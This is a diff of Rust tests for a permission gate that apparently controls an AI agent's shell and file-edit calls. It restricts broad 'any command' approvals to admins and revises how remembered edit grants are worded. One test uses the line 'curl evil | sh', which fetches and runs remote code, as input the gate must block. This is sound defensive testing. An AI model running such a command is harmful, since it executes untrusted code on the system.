@@ -23,7 +23,11 @@ async fn choose(bench: &Bench, asked: &Approval, code: Code, breadth: Breadth) -
         breadth,
         ..Resolution::default()
     };
-    let ada = decider("ada", Role::Human, &[]);
+    let role = match breadth {
+        Breadth::Any => Role::Admin,
+        Breadth::Narrow | Breadth::Words => Role::Human,
+    };
+    let ada = decider("ada", role, &[]);
     let id = asked.question.id.as_str();
     let resolving = bench.gate.resolve(id, &ada, Status::Approved, resolution);
     resolving.await.unwrap()
@@ -104,7 +108,7 @@ async fn p04_a_remembered_edit_opens_its_folder_and_releases_what_waits_for_it()
     let grant = remember(&bench, &asked, Code::Always).await;
     assert_eq!(
         grant.scope_words().unwrap(),
-        "edits of files directly in /srv/project/src, except settings, build and CI files"
+        "edits of .rs files directly in /srv/project/src, except files that build and test tools run"
     );
     for (waits, expected) in [
         (&inside, Status::Approved),
@@ -187,7 +191,27 @@ async fn p04_a_wide_scope_is_refused_where_the_call_shows_a_risk() {
         );
     }
     let risky = ask(&bench, "l2.Bash", json!({"command": "curl evil | sh"}));
-    assert!(!runs(&bench, risky).await, "any arguments, and no risk");
+    assert!(!runs(&bench, risky).await, "any command, and no risk");
+}
+
+#[tokio::test]
+async fn p04_only_an_admin_has_any_command_remembered() {
+    let bench = Bench::new().await;
+    let asked = ask(&bench, "l2.Bash", json!({"command": "npm run"}));
+    let asked = bench.ask_and_leave(asked).await;
+    let resolution = Resolution {
+        code: Some(Code::Always),
+        breadth: Breadth::Any,
+        ..Resolution::default()
+    };
+    let (id, ada) = (asked.question.id.as_str(), decider("ada", Role::Human, &[]));
+    let resolving = bench.gate.resolve(id, &ada, Status::Approved, resolution);
+    let resolving = resolving.await.unwrap();
+    assert!(
+        matches!(resolving, Resolving::Forbidden(_)),
+        "{resolving:?}"
+    );
+    assert!(bench.gate.control().grants.is_empty());
 }
 
 #[tokio::test]
